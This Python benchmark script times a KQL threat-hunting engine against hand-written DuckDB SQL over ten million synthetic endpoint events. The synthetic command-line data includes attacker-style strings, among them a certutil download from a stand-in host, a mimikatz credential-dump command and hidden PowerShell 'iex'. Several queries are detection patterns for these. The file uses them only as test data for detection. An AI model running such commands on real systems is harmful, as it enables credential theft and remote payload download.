"""Benchmark of the KQL engine: 10 hunting queries over >= 10M archived rows, each against hand-written DuckDB SQL.

Run: `.venv/bin/python bench/kql.py [--rows 10000000] [--data DIR] [--repeat 3]`. Prints, per query, the
baseline (hand-written SQL with Kusto's semantics) time, huntvault's time and the ratio, the geometric mean,
and the peer duckdb-kql when it is installed; the same ratio in process CPU time (DuckDB's threads
included), which a busy machine disturbs less than wall time. Timings are noisy on a shared machine: only ratios measured
in the same run mean anything.
"""

from __future__ import annotations

import argparse
import math
import statistics
import sys
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import duckdb

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "src"))

from huntvault import schema  # noqa: E402
from huntvault.kql import execute  # noqa: E402
from huntvault.kql.backends import DuckDBBackend  # noqa: E402
from huntvault.kql.values import SQL_TYPES  # noqa: E402

NOW = datetime(2024, 7, 1, tzinfo=UTC)
TERM = r"[^\pL\pN]"

# name -> (KQL, hand-written DuckDB SQL with the same results)
QUERIES: dict[str, tuple[str, str]] = {
    "has_term": (
        'DeviceProcessEvents | where ProcessCommandLine has "-enc" | count',
        f"""SELECT count(*) AS "Count" FROM "DeviceProcessEvents"
            WHERE regexp_matches("ProcessCommandLine", '(?i)\\-enc(?:$|{TERM})')""",
    ),
    "has_any_time": (
        'DeviceProcessEvents | where Timestamp > ago(7d) and ProcessCommandLine has_any ("mimikatz", "sekurlsa", "bypass") '
        "| summarize count() by DeviceName | top 10 by count_, DeviceName asc",
        f"""SELECT "DeviceName", count(*) AS count_ FROM "DeviceProcessEvents"
            WHERE "Timestamp" > TIMESTAMPTZ '2024-06-24 00:00:00+00'
              AND regexp_matches("ProcessCommandLine", '(?i)(?:^|{TERM})(?:mimikatz|sekurlsa|bypass)(?:$|{TERM})')
            GROUP BY "DeviceName" ORDER BY count_ DESC NULLS LAST, "DeviceName" ASC LIMIT 10""",
    ),
    # the list computed once (compile time) from a tabular let / toscalar: the same SQL as a constant list
    "has_any_tabular_let": (
        'let terms = datatable(t:string)["mimikatz", "sekurlsa", "bypass"] | summarize make_set(t);'
        " DeviceProcessEvents | where Timestamp > ago(7d) and ProcessCommandLine has_any (terms) "
        "| summarize count() by DeviceName | top 10 by count_, DeviceName asc",
        f"""SELECT "DeviceName", count(*) AS count_ FROM "DeviceProcessEvents"
            WHERE "Timestamp" > TIMESTAMPTZ '2024-06-24 00:00:00+00'
              AND regexp_matches("ProcessCommandLine", '(?i)(?:^|{TERM})(?:mimikatz|sekurlsa|bypass)(?:$|{TERM})')
            GROUP BY "DeviceName" ORDER BY count_ DESC NULLS LAST, "DeviceName" ASC LIMIT 10""",
    ),
    "has_any_toscalar": (
        'let terms = toscalar(datatable(t:string)["mimikatz", "sekurlsa", "bypass"] | summarize make_set(t));'
        " DeviceProcessEvents | where Timestamp > ago(7d) and ProcessCommandLine has_any (terms) "
        "| summarize count() by DeviceName | top 10 by count_, DeviceName asc",
        f"""SELECT "DeviceName", count(*) AS count_ FROM "DeviceProcessEvents"
            WHERE "Timestamp" > TIMESTAMPTZ '2024-06-24 00:00:00+00'
              AND regexp_matches("ProcessCommandLine", '(?i)(?:^|{TERM})(?:mimikatz|sekurlsa|bypass)(?:$|{TERM})')
            GROUP BY "DeviceName" ORDER BY count_ DESC NULLS LAST, "DeviceName" ASC LIMIT 10""",
    ),
    "bin_hour": (
        "DeviceProcessEvents | summarize n = count() by bin(Timestamp, 1h) | count",
        """SELECT count(*) AS "Count" FROM (SELECT time_bucket(INTERVAL 1 HOUR, "Timestamp", TIMESTAMPTZ '1970-01-01 00:00:00+00') AS b,
            count(*) FROM "DeviceProcessEvents" GROUP BY b)""",
    ),
    "dcount_by": (
        "DeviceProcessEvents | summarize dcount(FileName) by DeviceId | summarize max(dcount_FileName)",
        """SELECT max(d) AS "max_dcount_FileName" FROM (SELECT "DeviceId", count(DISTINCT "FileName") AS d
            FROM "DeviceProcessEvents" GROUP BY "DeviceId")""",
    ),
    "in_ci": (
        'DeviceProcessEvents | where FileName in~ ("cmd.exe", "powershell.exe", "rundll32.exe") | summarize count() by FileName',
        """SELECT "FileName", count(*) AS count_ FROM "DeviceProcessEvents"
            WHERE lower("FileName") IN ('cmd.exe', 'powershell.exe', 'rundll32.exe') GROUP BY "FileName" """,
    ),
    "join_inner": (
        "DeviceNetworkEvents | where RemotePort == 4444 | project DeviceId, RemoteIP "
        '| join kind=inner (DeviceProcessEvents | where FileName =~ "powershell.exe" | project DeviceId, ReportId) on DeviceId '
        "| count",
        """SELECT count(*) AS "Count" FROM (SELECT "DeviceId" FROM "DeviceNetworkEvents" WHERE "RemotePort" = 4444) n
            JOIN (SELECT "DeviceId" FROM "DeviceProcessEvents" WHERE lower("FileName") = 'powershell.exe') p
            ON n."DeviceId" = p."DeviceId" """,
    ),
    "join_innerunique": (
        'DeviceProcessEvents | where FileName == "certutil.exe" | project DeviceId, FileName '
        "| join (DeviceNetworkEvents | where RemotePort == 443 | project DeviceId, RemoteUrl) on DeviceId | count",
        """SELECT count(*) AS "Count" FROM (SELECT DISTINCT ON ("DeviceId") "DeviceId" FROM "DeviceProcessEvents"
            WHERE "FileName" = 'certutil.exe') p JOIN (SELECT "DeviceId" FROM "DeviceNetworkEvents" WHERE "RemotePort" = 443) n
            ON p."DeviceId" = n."DeviceId" """,
    ),
    "mv_expand_additional": (
        'DeviceProcessEvents | where ActionType == "ProcessCreatedWithItems" | mv-expand Item = AdditionalFields.Items '
        "| summarize count() by tostring(Item)",
        """SELECT coalesce(json_extract_string(i, '$'), '') AS "Item", count(*) AS count_ FROM (
            SELECT unnest(CAST(json_extract("AdditionalFields", '$.Items') AS JSON[])) AS i FROM "DeviceProcessEvents"
            WHERE "ActionType" = 'ProcessCreatedWithItems') GROUP BY 1""",
    ),
    "arg_max": (
        "DeviceProcessEvents | summarize arg_max(Timestamp, FileName, ProcessCommandLine) by DeviceId | count",
        """SELECT count(*) AS "Count" FROM (SELECT "DeviceId", arg_max({'f': "FileName", 'c': "ProcessCommandLine"}, "Timestamp")
            FROM "DeviceProcessEvents" GROUP BY "DeviceId")""",
    ),
    "dynamic_property": (
        'DeviceProcessEvents | extend Tag = tostring(AdditionalFields.Tag) | where Tag == "beacon" | summarize count() by DeviceName | count',
        """SELECT count(*) AS "Count" FROM (SELECT "DeviceName" FROM "DeviceProcessEvents"
            WHERE json_extract_string("AdditionalFields", '$.Tag') = 'beacon' GROUP BY "DeviceName")""",
    ),
    "contains_top": (
        'DeviceProcessEvents | where FolderPath contains "\\\\temp\\\\" | top 100 by Timestamp | count',
        """SELECT count(*) AS "Count" FROM (SELECT * FROM "DeviceProcessEvents" WHERE contains(lower("FolderPath"), '\\temp\\')
            ORDER BY "Timestamp" DESC LIMIT 100)""",
    ),
}


def _value(col: str, kind: str) -> str:
    generated = {
        "Timestamp": "TIMESTAMPTZ '2024-06-01 00:00:00+00' + to_microseconds((i * 259201) % 2592000000000)",
        "DeviceId": "'dev' || (i % 5000)::VARCHAR",
        "DeviceName": "'host-' || (i % 5000)::VARCHAR || '.corp.example'",
        "ActionType": "CASE WHEN i % 50 = 0 THEN 'ProcessCreatedWithItems' ELSE 'ProcessCreated' END",
        "FileName": "['cmd.exe','powershell.exe','svchost.exe','rundll32.exe','certutil.exe','chrome.exe','explorer.exe',"
        "'winword.exe','excel.exe','msiexec.exe'][1 + (hash(i) % 10)::INT]",
        "FolderPath": "CASE WHEN i % 17 = 0 THEN 'C:\\Users\\u\\AppData\\Local\\Temp\\x.exe' ELSE 'C:\\Windows\\System32\\x.exe' END",
        "ProcessCommandLine": "['cmd.exe /c whoami','powershell.exe -enc SQBFAFgA','powershell -nop -w hidden -c iex',"
        "'rundll32.exe shell32.dll,Control_RunDLL','certutil -urlcache -f http://x/a.exe',"
        "'chrome.exe --type=renderer --encoded','mimikatz.exe sekurlsa::logonpasswords',"
        "'svchost.exe -k netsvcs -p','msiexec /i pkg.msi /qn','powershell -ExecutionPolicy Bypass -File a.ps1']"
        "[1 + (hash(i * 7) % 10)::INT] || ' ' || (i % 1000)::VARCHAR",
        "AccountName": "'user' || (i % 300)::VARCHAR",
        "ReportId": "i",
        "AdditionalFields": "CASE WHEN i % 50 = 0 THEN '{\"Tag\":\"' || ['beacon','benign','other'][1 + (i % 3)::INT] || "
        "'\",\"Items\":[' || (i % 7)::VARCHAR || ',' || (i % 11)::VARCHAR || ']}' ELSE NULL END",
        "RemotePort": "[443, 80, 4444, 53, 8080][1 + (hash(i) % 5)::INT]",
        "RemoteIP": "'10.' || (i % 256)::VARCHAR || '.' || ((i // 256) % 256)::VARCHAR || '.1'",
        "RemoteUrl": "'site' || (i % 900)::VARCHAR || '.example.com'",
    }
    if col in generated:
        return f"CAST({generated[col]} AS {SQL_TYPES[kind]})"
    if kind in ("string", "guid"):
        return "''"
    sql_type = SQL_TYPES[kind].replace("JSON", "VARCHAR")
    return f"CAST(NULL AS {sql_type})"


def generate(data: Path, rows: int) -> None:
    """Write the bench archive with DuckDB: `<Table>/date=YYYY-MM-DD/*.parquet`, typed per the schema."""
    data.mkdir(parents=True, exist_ok=True)
    con = duckdb.connect()
    con.execute("SET TimeZone='UTC'")
    for table, share in (("DeviceProcessEvents", 0.8), ("DeviceNetworkEvents", 0.2)):
        t = schema.get_table(table)
        assert t is not None
        n = int(rows * share)
        cols = ", ".join(f'{_value(c.name, c.type)} AS "{c.name}"' for c in t.columns)
        out = str(data / table).replace("'", "''")
        con.execute(f"""COPY (SELECT *, strftime("Timestamp", '%Y-%m-%d') AS date FROM (SELECT {cols} FROM range({n}) r(i)))
                        TO '{out}' (FORMAT PARQUET, PARTITION_BY (date), COMPRESSION zstd, OVERWRITE_OR_IGNORE)""")
    (data / "READY").write_text(str(rows))


def delta_copy(data: Path) -> Path:
    """The same Parquet files (hard links) as a huntvault Delta archive: one Delta commit per table adding them."""
    import os
    import time as _time

    import orjson
    import pyarrow.parquet as pq
    from deltalake.transaction import AddAction

    from huntvault.archive import locate
    from huntvault.archive.tables import PARTITION, create_table, delta_schema

    out = data.parent / (data.name + "-delta")
    if (out / "READY").exists():
        return out
    for table in ("DeviceProcessEvents", "DeviceNetworkEvents"):
        adds = []
        for f in sorted((data / table).glob("date=*/*.parquet")):
            rel = f.relative_to(data / table).as_posix()
            dest = out / table / rel
            dest.parent.mkdir(parents=True, exist_ok=True)
            if not dest.exists():
                os.link(f, dest)
            rows = pq.read_metadata(f).num_rows
            day = f.parent.name.split("=", 1)[1]
            stats = orjson.dumps({"numRecords": rows}).decode()
            adds.append(
                AddAction(rel, f.stat().st_size, {PARTITION: day}, int(_time.time() * 1000), True, stats)
            )
        dt = create_table(locate(out), table)
        dt.create_write_transaction(adds, "append", delta_schema(table), partition_by=[PARTITION])
    (out / "READY").write_text("1")
    return out


def delta_vs_parquet(data: Path, repeat: int) -> None:
    """Each query on the Delta archive against the same query on the plain Parquet files (target <= 1.1x)."""
    plain = DuckDBBackend(data)
    delta = DuckDBBackend(delta_copy(data))
    ratios: list[float] = []
    print(f"{'query':<22}{'parquet ms':>12}{'delta ms':>10}{'ratio':>8}{'same':>6}")
    for name, (kql, _) in QUERIES.items():
        p_t, p_rows = best(lambda kql=kql: execute(kql, backend=plain, now=NOW).table.to_pylist(), repeat)
        d_t, d_rows = best(lambda kql=kql: execute(kql, backend=delta, now=NOW).table.to_pylist(), repeat)
        same = sorted(map(str, p_rows)) == sorted(map(str, d_rows))
        ratios.append(d_t / p_t)
        print(
            f"{name:<22}{p_t * 1000:>12.0f}{d_t * 1000:>10.0f}{d_t / p_t:>8.2f}{'yes' if same else 'NO':>6}",
            flush=True,
        )
    gm = math.exp(statistics.mean(math.log(r) for r in ratios))
    print(f"geometric mean ratio Delta/plain Parquet: {gm:.2f} (target <= 1.1)")


#: the best CPU time (all of the process's threads: DuckDB's workers too) of the last `best` call
LAST_CPU: list[float] = [0.0]


def best(fn: Any, repeat: int) -> tuple[float, Any]:
    """The best wall time of `repeat` runs and the last result (the best CPU time goes to LAST_CPU)."""
    times, cpus, result = [], [], None
    for _ in range(repeat):
        t0, c0 = time.perf_counter(), time.process_time()
        result = fn()
        times.append(time.perf_counter() - t0)
        cpus.append(time.process_time() - c0)
    LAST_CPU[0] = min(cpus)
    return min(times), result


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--rows", type=int, default=10_000_000)
    ap.add_argument("--data", type=Path, default=None)
    ap.add_argument("--repeat", type=int, default=3)
    ap.add_argument(
        "--delta", action="store_true", help="only: Delta archive against the plain Parquet files"
    )
    ap.add_argument("--no-delta", action="store_true", help="skip the Delta archive comparison at the end")
    ap.add_argument("--only", default="", help="comma-separated query names (default: all)")
    args = ap.parse_args()
    only = {n for n in args.only.split(",") if n}
    unknown = only - set(QUERIES)
    if unknown:
        ap.error(f"--only: unknown queries {sorted(unknown)}; known: {', '.join(QUERIES)}")
    data = args.data or Path(f"/tmp/huntvault-kql-bench-{args.rows}")
    if not (data / "READY").exists():
        print(f"generating {args.rows:,} rows in {data} ...", flush=True)
        t0 = time.perf_counter()
        generate(data, args.rows)
        print(f"  done in {time.perf_counter() - t0:.1f} s", flush=True)
    if args.delta:
        delta_vs_parquet(data, args.repeat)
        return
    backend = DuckDBBackend(data)
    con = backend.con
    total = sum(
        con.sql(f'SELECT count(*) FROM "{t}"').fetchall()[0][0]
        for t in ("DeviceProcessEvents", "DeviceNetworkEvents")
    )
    print(f"archive: {total:,} rows")
    try:
        import duckdb_kql

        schema_map = {name: [c for c, _ in cols] for name, cols in backend.tables.items()}
    except ImportError:
        duckdb_kql = None
    ratios: list[float] = []
    cpu_ratios: list[float] = []
    peer_ratios: list[float] = []
    print(
        f"{'query':<22}{'baseline ms':>12}{'huntvault ms':>14}{'ratio':>8}{'same':>6}{'duckdb-kql ms':>15}{'ratio':>8}"
        f"{'cpu ratio':>11}"
    )
    for name, (kql, sql) in QUERIES.items():
        if only and name not in only:
            continue
        base_t, base = best(lambda sql=sql: con.sql(sql).fetchall(), args.repeat)
        base_cpu = LAST_CPU[0]
        ours_t, ours = best(
            lambda kql=kql: execute(kql, backend=backend, now=NOW).table.to_pylist(), args.repeat
        )
        cpu_ratio = LAST_CPU[0] / base_cpu if base_cpu > 0 else 1.0
        cpu_ratios.append(cpu_ratio)
        same = sorted(map(str, (tuple(r.values()) for r in ours))) == sorted(map(str, base))
        ratio = ours_t / base_t
        ratios.append(ratio)
        peer = "-"
        peer_ratio = "-"
        if duckdb_kql is not None:
            try:
                peer_sql = str(duckdb_kql.to_sql(kql, schema=schema_map, query_now=NOW))
                peer_t, _ = best(lambda s=peer_sql: con.sql(s).fetchall(), args.repeat)
                peer = f"{peer_t * 1000:.0f}"
                peer_ratio = f"{peer_t / base_t:.2f}"
                peer_ratios.append(peer_t / base_t)
            except Exception as exc:
                peer = "fails"
                peer_ratio = type(exc).__name__[:8]
        print(
            f"{name:<22}{base_t * 1000:>12.0f}{ours_t * 1000:>14.0f}{ratio:>8.2f}{'yes' if same else 'NO':>6}{peer:>15}{peer_ratio:>8}"
            f"{cpu_ratio:>11.2f}",
            flush=True,
        )
    gm = math.exp(statistics.mean(math.log(r) for r in ratios))
    print(f"geometric mean ratio huntvault/baseline: {gm:.2f} (target <= 1.0)")
    cgm = math.exp(statistics.mean(math.log(r) for r in cpu_ratios))
    print(f"  the same in CPU time (all threads; steadier than wall time on a busy machine): {cgm:.2f}")
    if peer_ratios:
        pgm = math.exp(statistics.mean(math.log(r) for r in peer_ratios))
        print(
            f"geometric mean ratio duckdb-kql/baseline over the {len(peer_ratios)} queries it runs: {pgm:.2f}"
        )
    if not args.no_delta:
        delta_vs_parquet(data, args.repeat)


if __name__ == "__main__":
    main()
